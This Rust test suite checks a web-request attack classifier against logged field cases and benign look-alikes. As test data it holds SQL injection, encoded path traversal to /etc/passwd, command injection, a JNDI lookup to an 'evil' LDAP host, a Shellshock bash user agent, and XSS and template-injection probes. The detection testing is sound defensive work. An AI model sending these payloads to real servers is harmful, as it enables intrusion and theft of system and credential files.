//! Field cases 28, 30, 31 and 33 and benign look-alikes, through the public
//! `Classifier::classify` API on events as the nginx parser would fill them.

use palisade::detect::classify::Classifier;
use palisade::event::{AttackClasses, Event};

fn classify(url: &str, ua: &str) -> Event {
    let mut ev = Event::default();
    ev.set_url(url);
    ev.user_agent = Some(ua.into());
    ev.referrer = Some("-".into());
    Classifier::new().classify(&mut ev);
    ev
}

#[test]
fn sql_words_in_file_names_are_not_sqli_but_union_select_is() {
    // Field case 28: keyword rules flagged an image named "Insert or Update Table".
    let c = Classifier::new();
    for url in [
        "/docs/img/Insert%20or%20Update%20Table.png",
        "/blog/how-to-select-a-union-rep",
    ] {
        let mut ev = Event::default();
        ev.set_url(url);
        c.classify(&mut ev);
        assert!(
            !ev.attacks.contains(AttackClasses::SQLI),
            "{url}: {:?}",
            ev.findings
        );
    }
    let ev = classify("/item?id=1%20UNION%20SELECT%20pass%20FROM%20users--", "-");
    assert!(ev.attacks.contains(AttackClasses::SQLI));
    let f = ev
        .findings
        .iter()
        .find(|f| f.class == "sqli")
        .expect("a sqli finding");
    assert_eq!(f.part, "url.query");
    assert!(
        f.decoding.contains("percent"),
        "decoding should be named: {}",
        f.decoding
    );
}

#[test]
fn comment_padded_and_double_encoded_union_select_is_sqli() {
    // Field case 30: `/**/` padding, percent-encoded and double-encoded, mixed case.
    for url in [
        "/index.php?cat=7%2F%2A%2A%2FUNION%2F%2A%2A%2FSELECT%2F%2A%2A%2Fuser%2C2%2F%2A%2A%2FFROM%2F%2A%2A%2Fmysql.user",
        "/index.php?cat=7%252F%252A%252A%252FUNION%252F%252A%252A%252FSELECT%252F%252A%252A%252F1",
        "/index.php?cat=7+UnIoN/**/sElEcT+1,2",
    ] {
        let ev = classify(url, "-");
        assert!(ev.attacks.contains(AttackClasses::SQLI), "{url} missed");
    }
    let ev = classify(
        "/index.php?cat=7%252F%252A%252A%252FUNION%252F%252A%252A%252FSELECT%252F%252A%252A%252F1",
        "-",
    );
    assert!(
        ev.findings[0].decoding.contains("percent x2"),
        "{:?}",
        ev.findings
    );
}

#[test]
fn encoded_traversal_in_query_arguments_is_flagged() {
    // Field case 31: the scan hid `../` behind %2F, %2e, %252f, `....//` and `%5C`.
    for url in [
        "/index.php?file=..%2F..%2F..%2Fetc%2Fpasswd",
        "/index.php?file=%2e%2e%2F%2E%2E%2fetc%2fpasswd",
        "/index.php?file=..%252f..%252fetc%252fpasswd",
        "/index.php?file=....//....//etc/passwd",
        "/download?f=..%5C..%5Cwindows%5Cwin.ini",
    ] {
        let ev = classify(url, "Mozilla/5.0");
        assert!(
            ev.attacks.contains(AttackClasses::TRAVERSAL),
            "{url} missed"
        );
    }
    let control = classify("/docs/v1..v2-changes", "Mozilla/5.0");
    assert!(
        control.attacks.is_empty(),
        "control flagged: {:?}",
        control.findings
    );
}

#[test]
fn scanner_agents_and_payloads_match_regardless_of_case() {
    // Field case 33: "Sqlmap" in a list did not match `sqlmap/…`; same for MASSCAN.
    let ev = classify("/?id=1", "sqlmap/1.8.2#stable (https://sqlmap.org)");
    assert!(ev.attacks.contains(AttackClasses::SCANNER_UA));
    let ev = classify("/", "MASSCAN/1.3");
    assert!(ev.attacks.contains(AttackClasses::SCANNER_UA));
    let ev = classify("/?q=%3CsCrIpT%3E", "-");
    assert!(ev.attacks.contains(AttackClasses::XSS));
}

#[test]
fn ordinary_requests_are_not_flagged() {
    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
    for url in [
        "/images/logo.png",
        "/blog/tags/alert",
        "/scripts/app.js?v=3",
        "/search?q=union+station+select+seats",
        "/search?q=tom+%26+jerry",
        "/search?q=rock+and+roll+or+jazz",
        "/api/items?sort=name&order=asc&limit=20",
        "/login?next=%2Faccount%2Fsettings",
        "/search?q=O%27Reilly+books",
        "/wiki/C%2B%2B_(programming_language)",
        "/docs/v1..v2-changes",
    ] {
        let ev = classify(url, browser);
        assert!(ev.attacks.is_empty(), "{url} flagged: {:?}", ev.findings);
    }
}

#[test]
fn each_class_is_recognised_with_its_part() {
    let cases = [
        (
            "/p?cmd=127.0.0.1%3Bcat%20/etc/passwd",
            AttackClasses::CMDI,
            "url.query",
        ),
        (
            "/p?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
            AttackClasses::JNDI,
            "url.query",
        ),
        ("/p?name=%7B%7B7*7%7D%7D", AttackClasses::SSTI, "url.query"),
        ("/.env", AttackClasses::SENSITIVE_FILE, "url.path"),
        ("/.git/config", AttackClasses::SENSITIVE_FILE, "url.path"),
        ("/show.php?u_id[$ne]=2", AttackClasses::SQLI, "url.query"),
        (
            "/p?q=%3Csvg%2Fonload%3Dalert(1)%3E",
            AttackClasses::XSS,
            "url.query",
        ),
    ];
    for (url, class, part) in cases {
        let ev = classify(url, "Mozilla/5.0");
        assert!(ev.attacks.contains(class), "{url}: {:?}", ev.findings);
        let name = class.names().next().unwrap();
        assert!(
            ev.findings
                .iter()
                .any(|f| f.class == name && f.part == part),
            "{url}: {:?}",
            ev.findings
        );
    }
}

#[test]
fn attacks_in_user_agent_are_attributed_to_it() {
    let ev = classify("/", "() { :; }; /bin/bash -c 'id'");
    assert!(ev.attacks.contains(AttackClasses::CMDI));
    assert_eq!(
        ev.findings.iter().find(|f| f.class == "cmdi").unwrap().part,
        "user_agent.original"
    );
    let ev = classify("/", "${${lower:j}ndi:ldap://x/a}");
    assert!(ev.attacks.contains(AttackClasses::JNDI));
}
